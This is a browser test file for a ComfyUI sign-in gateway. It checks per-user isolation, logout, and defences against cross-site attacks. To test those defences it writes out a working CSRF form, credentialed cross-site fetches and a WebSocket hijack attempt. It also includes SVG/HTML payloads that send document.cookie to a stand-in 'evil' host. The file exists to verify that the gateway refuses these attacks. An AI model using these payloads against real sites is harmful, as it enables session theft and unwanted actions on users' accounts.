// Sign-in and cross-site safety in a real browser (issue 17): headless Chromium, a real OpenID Connect
// provider (oidc-provider) on loopback, the gateway in oidc mode in front of a stand-in that serves the
// real ComfyUI frontend (../shared/fixtures/comfyui-frontend/1.27.10), and a second site on another
// loopback host name (evil.localhost) that tries to act for the signed-in artist.
//
// Host names: the site is http://localhost:<port> (Chromium treats localhost as a secure context, so the
// gateway's __Host- cookie, which must be Secure, is kept), the other site http://evil.localhost:<port>
// (another registrable domain: cross-site, so Chromium marks its requests Sec-Fetch-Site: cross-site).
import { strict as assert } from "node:assert";
import * as fs from "node:fs";
import * as http from "node:http";
import type { AddressInfo } from "node:net";
import * as path from "node:path";
import { chromium, type Browser, type BrowserContext, type Page } from "playwright-core";
import { freePort } from "../gateway/cli";
import { get, startGateway, t2i, tmpDir, until } from "../gateway/helpers";
import { startIdp, type Idp } from "../gateway/oidcHarness";
import { FRONTEND_FIXTURE, startStandIn, type StandIn } from "../gateway/standin";
import { CHROMIUM, frontendConnected } from "./webui";

const CKPT = "v1-5-pruned-emaonly-fp16.safetensors";

/** The other site: pages that try to make the artist's browser act on the studio's gateway. */
function evilSite(gw: string): Promise<{ url: string; hits: string[]; close(): Promise<void> }> {
  const hits: string[] = [];
  const ws = gw.replace("http", "ws");
  const pages: Record<string, string> = {
    // A classic CSRF form: text/plain bodies can carry JSON, and a top-level POST sends cookies.
    "/form": `<form id=f method=POST action="${gw}/prompt" enctype="text/plain"><input name='{"prompt":${JSON.stringify(JSON.stringify(t2i(666, CKPT))).slice(1, -1)},"x":"' value='"}'></form><script>document.getElementById("f").submit()</script>`,
    // Script from the other site: no-cors fetches with credentials, and a WebSocket.
    "/script": `<script>
      const go = async () => {
        const opts = (body) => ({ method: "POST", mode: "no-cors", credentials: "include", headers: { "content-type": "text/plain" }, body });
        await fetch("${gw}/queue", opts(JSON.stringify({ clear: true }))).catch(() => {});
        await fetch("${gw}/history", opts(JSON.stringify({ clear: true }))).catch(() => {});
        await fetch("${gw}/userdata/workflows%2Fmine.json?overwrite=true", opts("{}")).catch(() => {});
        await fetch("${gw}/interrupt", opts("{}")).catch(() => {});
        await fetch("${gw}/gateway/drain", opts("{}")).catch(() => {});
        const opened = await new Promise((r) => { const s = new WebSocket("${ws}/ws?clientId=stolen"); s.onopen = () => r("open"); s.onerror = () => r("refused"); });
        await fetch("/report?ws=" + opened);
      };
      go();
    </script>`,
  };
  const server = http.createServer((req, res) => {
    hits.push(req.url ?? "");
    const page = pages[(req.url ?? "").split("?")[0]];
    res.writeHead(page ? 200 : 204, { "content-type": "text/html" });
    res.end(page ?? "");
  });
  return new Promise((r) =>
    server.listen(0, "127.0.0.1", () =>
      r({
        url: `http://evil.localhost:${(server.address() as AddressInfo).port}`,
        hits,
        close: () => new Promise<void>((c) => (server.closeAllConnections(), server.close(() => c()))),
      }),
    ),
  );
}

interface Session {
  context: BrowserContext;
  page: Page;
}

/** Runs a frontend command, as its menus and key bindings do. */
function command(page: Page, id: string): Promise<void> {
  return page.evaluate(async (cmd) => {
    const app = (window as unknown as { app: { extensionManager: { command: { execute(id: string): Promise<void> } } } }).app;
    await app.extensionManager.command.execute(cmd);
  }, id);
}

describe("browser: sign-in, per-user scope and cross-site safety with the real frontend (Chromium)", function () {
  this.timeout(180000);
  let idp: Idp;
  let pod: StandIn;
  let gw: Awaited<ReturnType<typeof startGateway>>;
  let site: string;
  let evil: Awaited<ReturnType<typeof evilSite>>;
  let browser: Browser;
  let alice: Session;
  let bob: Session;
  let root: Session;
  const shots = tmpDir();
  let step = 0;
  const shot = (page: Page, name: string) => page.screenshot({ path: path.join(shots, `${String(++step).padStart(2, "0")}-${name}.png`) });

  before(async function () {
    if (!fs.existsSync(CHROMIUM)) throw new Error(`Chromium not found at ${CHROMIUM}: .ci/run installs Debian's chromium`);
    const port = await freePort();
    site = `http://localhost:${port}`;
    idp = await startIdp([`${site}/auth/callback`], [`${site}/`]);
    for (const [sub, name, groups] of [["alice", "Alice", ["artist"]], ["bob", "Bob", ["artist"]], ["root", "Root", ["admin"]]] as const) {
      idp.accounts.set(sub, { sub, name, email: `${sub}@studio.example`, groups: [...groups] });
    }
    pod = await startStandIn({ stepMs: 5, frontendRoot: FRONTEND_FIXTURE, models: { checkpoints: [CKPT] } });
    gw = await startGateway(
      [pod.url],
      ["--port", String(port), "--auth", "oidc", "--oidc-issuer", idp.issuer, "--oidc-client-id", idp.clientId, "--public-url", site],
      tmpDir(),
      {},
      { GATEWAY_OIDC_CLIENT_SECRET: idp.clientSecret },
    );
    await until(async () => (await get(gw.adminUrl, "/gateway/pods")).json.ready === 1);
    evil = await evilSite(site);
    browser = await chromium.launch({ executablePath: CHROMIUM, args: ["--no-sandbox", "--host-resolver-rules=MAP evil.localhost 127.0.0.1, MAP localhost 127.0.0.1"] });
    // Each person signs in once, in a browser profile of their own (the frontend takes a while to load).
    alice = await signIn("alice");
    bob = await signIn("bob");
    root = await signIn("root");
  });
  after(async () => {
    for (const x of [alice, bob, root]) await x?.context.close();
    await browser?.close();
    await evil?.close();
    await gw?.close();
    await pod?.close();
    await idp?.close();
    // BROWSER_KEEP=1 keeps the screenshots (their folder is printed) for a look.
    if (process.env.BROWSER_KEEP) console.log(`screenshots: ${shots}`);
    else fs.rmSync(shots, { recursive: true, force: true });
    if (gw) fs.rmSync(gw.dataDir, { recursive: true, force: true });
  });

  /** Opens the site in a fresh browser profile and signs in through the IdP's own login form. */
  async function signIn(user: string): Promise<Session> {
    const context = await browser.newContext({ viewport: { width: 1440, height: 900 } });
    const page = await context.newPage();
    if (process.env.BROWSER_DEBUG) {
      page.on("console", (m) => console.log("console", m.type(), m.text().slice(0, 300)));
      page.on("pageerror", (e) => console.log("pageerror", e.message.slice(0, 500)));
      page.on("response", (r) => r.url().startsWith(site) && !r.url().includes("/assets/") && console.log("response", r.status(), r.request().method(), r.url().replace(site, "")));
    }
    // Any page of the site sends a browser without a session to sign in, and back to that page after.
    await page.goto(site + "/api/gateway/me");
    await page.waitForURL((u) => u.href.startsWith(idp.issuer));
    await page.fill('input[name="login"]', user);
    await page.fill('input[name="password"]', "any");
    await Promise.all([page.waitForURL(site + "/api/gateway/me"), page.click('button[type="submit"]')]);
    assert.equal(JSON.parse((await page.textContent("body")) ?? "{}").user, user);
    const cookies = await context.cookies(site);
    assert.ok(cookies.some((c) => c.name === "__Host-comfyui-session" && c.httpOnly && c.secure && c.sameSite === "Lax"), "the session cookie: __Host-, HttpOnly, Secure, SameSite");
    // Settings are per user and a new user would get the templates browser first: say the tour is done.
    assert.equal((await call(page, "/settings/Comfy.TutorialCompleted", { method: "POST", body: "true" })).status, 200);
    await page.goto(site + "/");
    await uiLoaded(page);
    await shot(page, `signed-in-${user}`);
    return { context, page };
  }

  /** The real frontend has loaded through the gateway: its canvas is there and the block-UI mask has lifted. */
  async function uiLoaded(page: Page): Promise<void> {
    await page.locator("#graph-canvas").waitFor({ timeout: 120000 });
    await page.waitForFunction(
      () => {
        const w = window as unknown as { app?: { graph?: unknown; extensionManager?: unknown }; LiteGraph?: { registered_node_types?: Record<string, unknown> } };
        return !!w.app?.graph && !!w.app.extensionManager && !!w.LiteGraph?.registered_node_types?.SaveImage && !document.querySelector(".p-blockui-mask");
      },
      undefined,
      { timeout: 120000 },
    );
  }

  /** A same-origin call from the page, as the frontend makes them (its fetch carries the cookie). */
  const call = (page: Page, p: string, init: { method?: string; body?: string; json?: boolean } = {}) =>
    page.evaluate(
      async ([u, i]) => {
        const r = await fetch(u, { method: i.method ?? "GET", body: i.body, headers: i.json === false ? {} : { "content-type": "application/json" } });
        return { status: r.status, text: await r.text() };
      },
      [p, init] as const,
    );

  it("an artist signs in through the redirect flow, queues from the real UI, sees the image, saves a workflow", async () => {
    const { page } = alice;
    const me = JSON.parse((await call(page, "/api/gateway/me")).text);
    assert.equal(me.user, "alice");
    // The default workflow from the UI's own command, the whole graph in view (LiteGraph loads a node's
    // output images only for nodes it draws), then Ctrl+Enter (Comfy.QueuePrompt, 1.27.10 key bindings).
    await command(page, "Comfy.LoadDefaultWorkflow");
    await page.waitForFunction(() => (window as unknown as { app: { graph: { nodes: { type: string }[] } } }).app.graph.nodes.some((n) => n.type === "SaveImage"));
    await command(page, "Comfy.Canvas.FitView");
    await frontendConnected(page);
    const queued = page.waitForResponse((r) => r.url().endsWith("/api/prompt") && r.request().method() === "POST");
    await page.keyboard.press("Control+Enter");
    const q = await queued;
    assert.equal(q.status(), 200, await q.text());
    const promptId = ((await q.json()) as { prompt_id: string }).prompt_id;
    // The image on the SaveImage node, loaded (the stand-in is quick: it may have come before any listener
    // here could, so the page's own state is what is waited on, then its address is checked).
    const src = (await (
      await page.waitForFunction((id) => {
        const save = (window as unknown as { app: { graph: { nodes: { type: string; imgs?: HTMLImageElement[] }[] } } }).app.graph.nodes.find((n) => n.type === "SaveImage");
        const img = save?.imgs?.[0];
        return img && img.naturalWidth > 0 && img.src.includes(encodeURIComponent(id)) ? img.src : undefined;
      }, promptId)
    ).jsonValue()) as string;
    assert.match(src, /\/api\/view\?/);
    const viewed = await page.evaluate(async (u) => {
      const r = await fetch(u);
      return { status: r.status, type: r.headers.get("content-type") };
    }, src);
    assert.equal(viewed.status, 200);
    assert.match(viewed.type ?? "", /^image\//);
    await shot(page, "alice-image");
    // Save the workflow: a workflow never saved asks for its name first.
    await page.keyboard.press("Control+s");
    const input = page.getByRole("dialog").locator("input");
    await input.fill("alice-private");
    const saved = page.waitForResponse((r) => r.request().method() === "POST" && r.url().includes(`/api/userdata/${encodeURIComponent("workflows/alice-private.json")}`));
    await input.press("Enter");
    assert.equal((await saved).status(), 200);
    assert.ok(JSON.parse((await call(page, "/userdata?dir=workflows")).text).includes("alice-private.json"));
    await shot(page, "alice-saved");
  });

  it("a second artist sees none of the first's prompts, history, outputs or workflows; an admin sees both", async () => {
    {
      const hist = async (p: Page) => JSON.parse((await call(p, "/history")).text) as Record<string, { outputs: Record<string, { images?: { filename: string; subfolder: string; type: string }[] }> }>;
      const aliceHist = await hist(alice.page);
      const ids = Object.keys(aliceHist);
      assert.ok(ids.length >= 1, "alice's prompt from the UI is in her history");
      assert.deepEqual(Object.keys(await hist(bob.page)).filter((i) => ids.includes(i)), [], "bob sees none of it");
      assert.ok(ids.every((i) => i in aliceHist) && Object.keys(await hist(root.page)).filter((i) => ids.includes(i)).length === ids.length, "the admin sees it");
      const img = Object.values(aliceHist[ids[0]].outputs).flatMap((o) => o.images ?? [])[0];
      const view = `/view?filename=${encodeURIComponent(img.filename)}&subfolder=${encodeURIComponent(img.subfolder)}&type=${img.type}`;
      assert.equal((await call(alice.page, view)).status, 200);
      assert.equal((await call(bob.page, view)).status, 404, "another's output is not there for him");
      assert.equal((await call(root.page, view)).status, 200);
      assert.ok(!JSON.parse((await call(bob.page, "/userdata?dir=workflows")).text || "[]").includes?.("alice-private.json"), "nor her workflows");
      assert.equal((await call(bob.page, "/userdata/workflows%2Falice-private.json")).status, 404);
      // Bob's own UI: the workflows sidebar lists nothing of hers.
      // Bob's own UI: his workflows panel lists nothing of hers.
      await bob.page.locator(".workflows-tab-button").click();
      await shot(bob.page, "bob-sees-nothing-of-alice");
      assert.equal(await bob.page.getByText("alice-private.json", { exact: true }).count(), 0);
      await bob.page.locator(".workflows-tab-button").click();
    }
  });

  it("another site cannot queue, overwrite, clear or open /ws for the signed-in artist; the site itself can", async () => {
    const { context, page } = alice;
    {
      // Something of hers to protect: a waiting prompt (long), her history, a saved workflow.
      assert.equal((await call(page, "/userdata/workflows%2Fmine.json?overwrite=true", { method: "POST", body: JSON.stringify({ mine: true }) })).status, 200);
      const long = JSON.parse((await call(page, "/prompt", { method: "POST", body: JSON.stringify({ prompt: t2i(7, CKPT, 4000), client_id: "alice-tab" }) })).text).prompt_id as string;
      const historyBefore = Object.keys(JSON.parse((await call(page, "/history")).text)).length;
      const queued = async () => ((await get(gw.adminUrl, "/gateway/scaling")).json as { prompts?: number }).prompts;
      const before = await queued();
      // The other site, in the same browser (the artist's cookie is there): a form post, then scripts.
      const other = await context.newPage();
      const beforeHits = evil.hits.length;
      await other.goto(evil.url + "/form");
      await other.waitForLoadState("load");
      await shot(other, "cross-site-form");
      await other.goto(evil.url + "/script");
      await until(async () => evil.hits.slice(beforeHits).some((h) => h.startsWith("/report")), 30000, 50);
      const report = evil.hits.slice(beforeHits).find((h) => h.startsWith("/report"))!;
      assert.equal(report, "/report?ws=refused", "the WebSocket from another site was refused");
      // Nothing happened: no prompt queued, nothing cleared or overwritten, her running prompt goes on.
      assert.equal(await queued(), before, "no prompt was queued from the other site");
      const q = JSON.parse((await call(page, "/queue")).text);
      assert.ok([...q.queue_running, ...q.queue_pending].some((i: unknown[]) => i[1] === long), "her prompt is still there");
      assert.equal(Object.keys(JSON.parse((await call(page, "/history")).text)).length, historyBefore, "history not cleared");
      assert.deepEqual(JSON.parse((await call(page, "/userdata/workflows%2Fmine.json")).text), { mine: true }, "workflow not overwritten");
      // The audit trail names each refusal.
      const audit = fs.readFileSync(path.join(gw.dataDir, "audit.log"), "utf8").trim().split("\n").map((l) => JSON.parse(l));
      assert.ok(audit.filter((l) => l.status === 403 && l.detail?.refused).length >= 4, "refusals are audited");
      // The gateway's own routes are not on the site at all (its internal port only), signed in or not.
      assert.equal((await call(page, "/gateway/drain", { method: "POST", body: "{}" })).status, 404);
      assert.equal((await call(page, "/gateway/pods")).status, 404);
      // The same actions from the site itself work.
      assert.equal((await call(page, "/interrupt", { method: "POST", body: JSON.stringify({ prompt_id: long }) })).status, 200);
      assert.equal((await call(page, "/queue", { method: "POST", body: JSON.stringify({ clear: true }) })).status, 200);
      const opened = await page.evaluate(() => new Promise((r) => { const s = new WebSocket(location.origin.replace("http", "ws") + "/ws?clientId=own"); s.onopen = () => (s.close(), r("open")); s.onerror = () => r("refused"); }));
      assert.equal(opened, "open");
      await other.close();
    }
  });

  it("an SVG or HTML file is refused as an upload, and one planted by a pod is served as an attachment whose script never runs", async () => {
    const { context, page } = alice;
    {
      const svg = `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("${evil.url}/stolen?c="+document.cookie)</script></svg>`;
      const up = await page.evaluate(async (body) => {
        const f = new FormData();
        f.append("image", new Blob([body], { type: "image/svg+xml" }), "x.svg");
        return (await fetch("/upload/image", { method: "POST", body: f })).status;
      }, svg);
      assert.ok(up >= 400 && up < 500, `an SVG upload is refused (got ${up})`);
      // What a pod or custom node could write into the shared input folder.
      const inputs = path.join(gw.dataDir, "objects", "inputs");
      fs.mkdirSync(inputs, { recursive: true });
      fs.writeFileSync(path.join(inputs, "planted.svg"), svg);
      fs.writeFileSync(path.join(inputs, "planted.html"), `<script>fetch("${evil.url}/stolen?html")</script>`);
      const beforeHits = evil.hits.length;
      for (const name of ["planted.svg", "planted.html"]) {
        const res = await context.request.get(`${site}/view?filename=${name}&type=input`);
        assert.equal(res.status(), 200);
        assert.match(res.headers()["content-disposition"] ?? "", /^attachment/);
        assert.equal(res.headers()["content-type"], "application/octet-stream");
        assert.equal(res.headers()["x-content-type-options"], "nosniff");
        assert.match(res.headers()["content-security-policy"] ?? "", /sandbox/);
        // Opened as a page (a link an attacker would send): the browser downloads it, nothing renders.
        const tab = await context.newPage();
        const download = tab.waitForEvent("download");
        await tab.goto(`${site}/view?filename=${name}&type=input`).catch(() => undefined); // navigation becomes a download
        await download;
        await tab.close();
      }
      // Had a script run, it would have called the other site by now; give any pending request the
      // chance to arrive by asking the other site for something after it (requests are answered in order).
      await fetch(evil.url.replace("evil.localhost", "127.0.0.1") + "/fence");
      assert.deepEqual(evil.hits.slice(beforeHits).filter((h) => h.startsWith("/stolen")), [], "no script ran");
    }
  });

  it("logout ends the session: the old cookie is refused", async () => {
    const { context, page } = root;
    {
      const cookie = (await context.cookies(site)).find((c) => c.name === "__Host-comfyui-session")!.value;
      // The gateway's own extension shows who is signed in, with Sign out (the frontend has no such control).
      const account = page.locator("#comfyui-gateway-account");
      await account.getByText("Root (admin)", { exact: false }).waitFor();
      await shot(page, "account-control");
      const loggedOut = page.waitForResponse((r) => r.url() === `${site}/auth/logout` && r.request().method() === "POST");
      await account.getByText("Sign out", { exact: true }).click();
      const out = await loggedOut;
      assert.equal(out.status(), 200);
      // Then on to the IdP's end-session page (oidc-provider advertises end_session_endpoint).
      await page.waitForURL((u) => u.href.startsWith(idp.issuer));
      const replay = await fetch(site.replace("localhost", "127.0.0.1") + "/queue", { headers: { cookie: `__Host-comfyui-session=${cookie}` } });
      assert.equal(replay.status, 401, "the old cookie is refused");
      // The page itself: the next navigation goes through sign-in again (/auth/login, then the IdP).
      const login = page.waitForRequest((r) => r.url().startsWith(site + "/auth/login"));
      await page.goto(site + "/");
      await login;
      await shot(page, "after-logout");
    }
  });
});
